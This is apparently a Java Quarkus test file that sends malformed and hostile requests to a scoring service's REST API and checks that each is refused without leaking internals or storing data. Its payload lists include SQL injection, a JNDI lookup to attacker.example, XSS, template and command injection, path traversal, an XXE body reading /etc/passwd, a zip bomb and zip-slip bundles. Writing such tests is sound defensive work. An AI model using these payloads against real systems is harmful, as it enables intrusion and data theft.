package io.cnmm.security;

import static io.cnmm.testsupport.Api.given;
import static org.assertj.core.api.Assertions.assertThat;

import io.cnmm.testsupport.Api;
import io.cnmm.testsupport.Bundles;
import io.cnmm.testsupport.Examples;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.config.EncoderConfig;
import io.restassured.config.RestAssuredConfig;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import jakarta.inject.Inject;
import jakarta.persistence.EntityManager;
import java.net.Socket;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;

/**
 * A generated set of malformed and hostile requests against every endpoint that takes input:
 * broken and truncated JSON, bodies of the wrong shape, wrong types in every field, injection
 * strings in every field, path and query parameter, deep nesting, huge strings and bodies, wrong
 * content types, hostile rule bundles and broken credentials. Every one must be refused with a
 * 4xx problem detail that names no Java internals, and none may store anything: the row count of
 * every table is the same before and after.
 */
@QuarkusTest
class HostileInputTest {

    static final List<String> INJECTIONS = List.of(
            "' OR '1'='1", "'; DROP TABLE assessment; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(5)", "1' UNION SELECT password_hash FROM app_user --",
            "${jndi:ldap://attacker.example/x}", "#{7*7}", "{{7*7}}", "<%= 7*7 %>", "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>", "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "/dev/zero",
            "C:\\Windows\\win.ini", "\u0000", "nul\u0000byte", "\u202Egnp.exe", "$(reboot)", "`id`", "| cat /etc/shadow",
            "\r\nX-Injected: yes", "%0d%0aSet-Cookie: x=y", "x".repeat(5_000), "🙂🙃😈", "\uD800", "-1", "NaN", "Infinity",
            "1e309", "0x7fffffff", "null", "true", "[]", "{}", "\\", "%s%s%s%n", "admin'--", "*)(uid=*))(|(uid=*");

    /** Values of every JSON type, each of which is the wrong type somewhere. */
    static final List<String> WRONG_TYPES = List.of("null", "true", "false", "0", "-1", "1.5", "1e309",
            "-9223372036854775809", "\"\"", "\"text\"", "[]", "[1,2]", "{}", "{\"a\":1}");

    private static final Pattern INTERNALS = Pattern.compile(
            "Exception|io\\.cnmm|org\\.hibernate|org\\.postgresql|jakarta\\.|java\\.|\\bat [a-z]+\\.[a-z]+\\.|SQLState|stack", Pattern.CASE_INSENSITIVE);

    @Inject
    EntityManager entityManager;

    private final List<String> failures = new ArrayList<>();
    private int sent;
    private long uploads;

    @Test
    void hostileRequestsAreRefusedWithProblemDetailsAndStoreNothing() throws Exception {
        String enterprise = Api.createEnterprise("Hostile Input Co");
        String assessment = Api.submit(enterprise, Examples.body("progressing"));
        String user = Api.createUser("hostile-target", Role.ASSESSOR).name();
        String version = given().get("/api/rulesets/active").path("loadedHere");
        awaitRescoringsDone();
        Map<String, Long> before = rowCounts();
        long refusedUploadsBefore = refusedUploads();

        jsonBodies(enterprise, assessment, user, version);
        pathAndQueryParameters();
        contentTypes(enterprise, assessment, user);
        ruleBundles();
        credentials(enterprise);

        assertThat(failures).as(failures.size() + " of " + sent + " hostile requests were not refused properly").isEmpty();
        // The one row a refusal adds: the audit record of each upload of a ruleset, which is kept whatever came of it.
        Map<String, Long> after = rowCounts();
        assertThat(after.get("audit_log") - before.get("audit_log")).as("audit records of the refused uploads")
                .isEqualTo(uploads).isEqualTo(refusedUploads() - refusedUploadsBefore);
        after.put("audit_log", before.get("audit_log"));
        assertThat(after).as("rows per table after " + sent + " hostile requests").isEqualTo(before);
        assertThat(sent).isGreaterThanOrEqualTo(1_000);
        System.out.printf("HostileInputTest: %d hostile requests, all refused with 4xx problem details, nothing stored%n", sent);
    }

    /** Every JSON endpoint, with its valid body and the fields to corrupt. */
    private void jsonBodies(String enterprise, String assessment, String user, String version) {
        Map<String, String> targets = new LinkedHashMap<>();
        targets.put("POST /api/enterprises", "{\"name\": \"Hostile Co\", \"industry\": \"retail\"}");
        targets.put("POST /api/enterprises/" + enterprise + "/assessments", Examples.body("progressing"));
        targets.put("PUT /api/assessments/" + assessment + "/milestone", "{\"name\": \"Milestone\"}");
        targets.put("POST /api/users", "{\"username\": \"hostile-new\", \"password\": \"a long enough password\", \"roles\": [\"assessor\"]}");
        targets.put("PUT /api/users/" + user, "{\"roles\": [\"auditor\"]}");
        targets.put("PUT /api/users/" + user + "/assignments", "{\"enterprises\": [\"" + enterprise + "\"], \"allEnterprises\": false}");
        targets.put("POST /api/rulesets/" + version + "/rescorings", "{\"scope\": \"latest\", \"batchSize\": 10}");

        for (var target : targets.entrySet()) {
            String method = target.getKey().split(" ")[0];
            String url = target.getKey().split(" ")[1];
            String valid = target.getValue();
            // Every proper prefix of a JSON object is broken JSON.
            for (int cut = 1; cut < valid.length(); cut += Math.max(1, valid.length() / 25)) {
                expectRefused(method, url, valid.substring(0, cut));
            }
            boolean bodyOptional = url.endsWith("/rescorings"); // no body: a re-scoring with the defaults
            for (String shape : List.of("", "null", "[]", "[{}]", "\"text\"", "42", "true", "{", "}", "{]", "{\"a\"}",
                    "{\"a\":}", "{'a': 1}", "{\"a\": 1,}", "\u0000", "\uFEFF{}x", valid + valid, valid + "]")) {
                if (!(bodyOptional && (shape.isEmpty() || shape.equals("null")))) {
                    expectRefused(method, url, shape);
                }
            }
            expectRefused(method, url, nested(100));
            expectRefused(method, url, nested(10_000));
            expectRefused(method, url, withFirstField(valid, "\"deep\": " + nested(50)));
            expectRefused(method, url, "{\"huge\": \"" + "x".repeat(30_000) + "\"}");
            expectRefused(method, url, "{\"n\": " + "9".repeat(2_000) + "}");
            expectRefused(method, url, "[" + "0,".repeat(600_000) + "0]");
            for (String field : topLevelFields(valid)) {
                for (String wrong : WRONG_TYPES) {
                    String body = replaceField(valid, field, wrong);
                    if (!acceptable(target.getKey(), field, wrong)) {
                        expectRefused(method, url, body);
                    }
                }
                for (String injection : INJECTIONS) {
                    if (!acceptable(target.getKey(), field, json(injection))) {
                        expectRefused(method, url, replaceField(valid, field, json(injection)));
                    }
                }
            }
            for (String injection : INJECTIONS) { // as an unknown field's name
                expectRefused(method, url, withFirstField(valid, json(injection) + ": 1"));
            }
        }
        // Facts: injection strings as keys and as values of number, choice and flag facts.
        String submit = "/api/enterprises/" + enterprise + "/assessments";
        for (String injection : INJECTIONS) {
            expectRefused("POST", submit, "{\"facts\": {" + json(injection) + ": 1}}");
            for (String fact : List.of("containerized_pct", "cluster_provisioning", "base_image_catalog", "golden_path_templates")) {
                expectRefused("POST", submit, "{\"facts\": {\"" + fact + "\": " + json(injection) + "}}");
            }
        }
        for (String number : List.of("101", "-0.0001", "1e309", "-1e309", "99999999999999999999")) {
            expectRefused("POST", submit, "{\"facts\": {\"containerized_pct\": " + number + "}}");
        }
    }

    /** Ids and query parameters that are not what they should be: never a 5xx, never an error with internals. */
    private void pathAndQueryParameters() {
        for (String injection : INJECTIONS) {
            String encoded = URLEncoder.encode(injection, StandardCharsets.UTF_8).replace("+", "%20");
            for (String template : List.of("GET /api/assessments/%s", "GET /api/assessments/%s/report.html",
                    "GET /api/assessments/%s/export.csv", "GET /api/enterprises/%s", "GET /api/enterprises/%s/assessments",
                    "GET /api/rulesets/%s", "GET /api/rulesets/%s/bundle", "GET /api/rescorings/%s", "GET /api/users/%s",
                    "POST /api/assessments/%s/replay", "POST /api/rulesets/%s/activation",
                    "GET /api/model/indicators/%s")) {
                String[] parts = template.split(" ");
                expectRefused(parts[0], String.format(parts[1], encoded), parts[0].equals("POST") ? "{}" : null);
            }
            for (String query : List.of("/api/audit/log?after=%s", "/api/audit/log?limit=%s",
                    "/api/rulesets/activations?limit=%s", "/api/assessments/" + UUID.randomUUID() + "/comparison?with=%s")) {
                expectRefusedOrRead("GET", String.format(query, encoded));
            }
        }
    }

    private void contentTypes(String enterprise, String assessment, String user) {
        for (String url : List.of("/api/enterprises", "/api/enterprises/" + enterprise + "/assessments", "/api/users")) {
            for (String type : List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                    "multipart/form-data; boundary=x", "application/zip", "image/png")) {
                Response response = given().config(RestAssuredConfig.config().encoderConfig(EncoderConfig.encoderConfig()
                                .appendDefaultContentCharsetToContentTypeIfUndefined(false)
                                .encodeContentTypeAs(type.split(";")[0], io.restassured.http.ContentType.BINARY)))
                        .contentType(type)
                        .body("<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>".getBytes(StandardCharsets.UTF_8))
                        .request("POST", url);
                check("POST " + url + " as " + type, response);
            }
        }
    }

    /** Rule bundles that are broken, escape their folders, are bombs, or have rule code reaching outside. */
    private void ruleBundles() {
        byte[] bomb = Bundles.zipOf("rules/big.drl", "x".repeat(40 * 1024 * 1024), "model-data/model.yaml", "x");
        byte[] outside = Bundles.zipOf("rules/T/evil.drl", """
                package cnmm.rules
                rule "evil" when then System.exit(1); end
                """, "model-data/model.yaml", "x");
        List<String> names = new ArrayList<>();
        for (int i = 0; i < 5_100; i++) {
            names.add("rules/f" + i + ".txt");
            names.add("x");
        }
        for (byte[] bundle : List.of("not a zip".getBytes(), new byte[0], bomb, outside,
                Bundles.zipOf("rules/../../etc/cron.d/x", "boom", "model-data/model.yaml", "x"),
                Bundles.zipOf("/etc/passwd", "x"), Bundles.zipOf(names.toArray(String[]::new)),
                new byte[]{0x50, 0x4b, 0x03, 0x04, 0, 0, 0, 0})) {
            for (String url : List.of("/api/rulesets?message=hostile", "/api/rulesets/scenario-runs")) {
                check("POST " + url + " (hostile bundle)",
                        given().contentType("application/zip").body(bundle).post(url));
                uploads++;
            }
        }
        oversizedBody();
    }

    /**
     * A body past the 8 MB limit is refused on its Content-Length, before it is sent (a client that
     * keeps sending sees the connection closed), so this speaks HTTP on a socket.
     */
    private void oversizedBody() {
        try (Socket socket = new Socket("localhost", io.restassured.RestAssured.port)) {
            socket.getOutputStream().write(("POST /api/rulesets?message=big HTTP/1.1\r\nHost: localhost\r\n"
                    + "Authorization: Basic " + b64(Api.ADMIN + ":" + Api.ADMIN_PASSWORD) + "\r\n"
                    + "Content-Type: application/zip\r\nContent-Length: " + 9 * 1024 * 1024 + "\r\n\r\n")
                    .getBytes(StandardCharsets.US_ASCII));
            socket.getOutputStream().flush();
            String status = new java.io.BufferedReader(new java.io.InputStreamReader(socket.getInputStream(),
                    StandardCharsets.US_ASCII)).readLine();
            sent++;
            if (status == null || !status.startsWith("HTTP/1.1 413")) {
                failures.add("POST /api/rulesets with 9 MB: " + status);
            }
        } catch (java.io.IOException e) {
            failures.add("POST /api/rulesets with 9 MB: " + e);
        }
    }

    private void credentials(String enterprise) {
        for (String header : List.of("Basic", "Basic !!!", "Basic " + b64("admin"), "Basic " + b64("admin:"),
                "Basic " + b64("admin:wrong"), "Basic " + b64("' OR '1'='1:' OR '1'='1"), "Basic " + b64(":"),
                "Basic " + b64("x".repeat(5_000) + ":y"), "Bearer not.a.token", "Bearer " + "a".repeat(3_000),
                "Digest username=\"admin\"", "basic " + b64("admin:" + Api.ADMIN_PASSWORD + "x"))) {
            check("POST /api/enterprises with Authorization: " + header.substring(0, Math.min(30, header.length())),
                    Api.anonymous().header("Authorization", header).contentType("application/json")
                            .body("{\"name\": \"Should Not Exist\"}").post("/api/enterprises"));
            check("GET /api/enterprises/" + enterprise + " with a broken sign-in",
                    Api.anonymous().header("Authorization", header).get("/api/enterprises/" + enterprise));
        }
    }

    private void expectRefused(String method, String url, String body) {
        RequestSpecification request = given().config(noCharsetAdded()).contentType("application/json");
        if (body != null) {
            request.body(body.getBytes(StandardCharsets.UTF_8));
        }
        check(method + " " + url + " " + abbreviate(body), request.request(method, url));
    }

    /** GETs with a bad query parameter may also answer with an empty page; they must never fail otherwise. */
    private void expectRefusedOrRead(String method, String url) {
        Response response = given().request(method, url);
        sent++;
        if (response.statusCode() >= 500 || INTERNALS.matcher(response.asString()).find()) {
            failures.add(method + " " + url + ": " + response.statusCode() + " " + abbreviate(response.asString()));
        }
    }

    private void check(String what, Response response) {
        sent++;
        int status = response.statusCode();
        String body = response.asString();
        if (status < 400 || status >= 500) {
            failures.add(what + ": " + status + " " + abbreviate(body));
        } else if (!body.isEmpty() && !String.valueOf(response.contentType()).startsWith("application/problem+json")) {
            failures.add(what + ": " + status + " answered as " + response.contentType());
        } else if (INTERNALS.matcher(body).find()) {
            failures.add(what + ": " + status + " names internals: " + abbreviate(body));
        }
    }

    /**
     * Field values the API rightly accepts, so they are not hostile where they are: free text in a
     * name, an absent industry, a well-formed user name or password, an empty assignment list, or
     * the defaults of a re-scoring.
     */
    static boolean acceptable(String target, String field, String value) {
        String text = value.startsWith("\"") && value.endsWith("\"") && value.length() >= 2
                ? value.substring(1, value.length() - 1) : null;
        boolean plain = text != null && !text.isEmpty() && !text.contains("\\u") && !text.contains("\\r");
        return switch (field) {
            case "name" -> plain && text.length() <= 200;
            case "industry" -> value.equals("null") || text != null && text.length() <= 100 && !text.contains("\\u")
                    && !text.contains("\\r");
            case "username" -> text != null && text.matches("[A-Za-z0-9._@-]{1,100}");
            case "password" -> text != null && text.length() >= 12 && text.length() <= 72 && !text.contains("\\u");
            case "enterprises" -> value.equals("[]");
            case "allEnterprises" -> value.equals("true") || value.equals("false");
            case "scope", "batchSize" -> value.equals("null");
            default -> false;
        };
    }

    private static String replaceField(String json, String field, String value) {
        return json.replaceFirst("\"" + Pattern.quote(field) + "\":\\s*(\\{[^{}]*(\\{[^{}]*}[^{}]*)*}|\\[[^\\]]*]|\"[^\"]*\"|[^,}]+)",
                java.util.regex.Matcher.quoteReplacement("\"" + field + "\": " + value));
    }

    private static String withFirstField(String json, String field) {
        int brace = json.indexOf('{');
        return json.substring(0, brace + 1) + field + ", " + json.substring(brace + 1);
    }

    private static List<String> topLevelFields(String json) {
        try {
            List<String> fields = new ArrayList<>();
            new com.fasterxml.jackson.databind.ObjectMapper().readTree(json).fieldNames().forEachRemaining(fields::add);
            return fields;
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    private static String nested(int depth) {
        return "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
    }

    private static String json(String text) {
        StringBuilder quoted = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            switch (c) {
                case '"' -> quoted.append("\\\"");
                case '\\' -> quoted.append("\\\\");
                default -> {
                    if (c < 0x20 || text.equals("\uD800")) { // escaped: raw, a lone surrogate is not even UTF-8
                        quoted.append(String.format("\\u%04x", (int) c));
                    } else {
                        quoted.append(c);
                    }
                }
            }
        }
        return quoted.append('"').toString();
    }

    private static String b64(String text) {
        return java.util.Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private static String abbreviate(String text) {
        return text == null ? "(no body)" : text.length() <= 120 ? text : text.substring(0, 120) + "…";
    }

    private static RestAssuredConfig noCharsetAdded() {
        return RestAssuredConfig.config().encoderConfig(EncoderConfig.encoderConfig()
                .appendDefaultContentCharsetToContentTypeIfUndefined(false));
    }

    private long refusedUploads() {
        return count("select count(*) from audit_log where action in ('ruleset.scenarios-refused', 'ruleset.publish-refused')");
    }

    /** A re-scoring another test started may still be storing its assessments. */
    private void awaitRescoringsDone() throws InterruptedException {
        for (int i = 0; i < 600 && count("select count(*) from rescoring where status = 'running'") > 0; i++) {
            Thread.sleep(100);
        }
    }

    @jakarta.transaction.Transactional
    Map<String, Long> rowCounts() {
        Map<String, Long> counts = new java.util.TreeMap<>();
        @SuppressWarnings("unchecked")
        List<String> tables = entityManager.createNativeQuery("select table_name from information_schema.tables "
                + "where table_schema = current_schema() and table_type = 'BASE TABLE'").getResultList();
        for (String table : tables) {
            counts.put(table, count("select count(*) from \"" + table + "\""));
        }
        return counts;
    }

    @jakarta.transaction.Transactional
    long count(String sql) {
        return ((Number) entityManager.createNativeQuery(sql).getSingleResult()).longValue();
    }
}
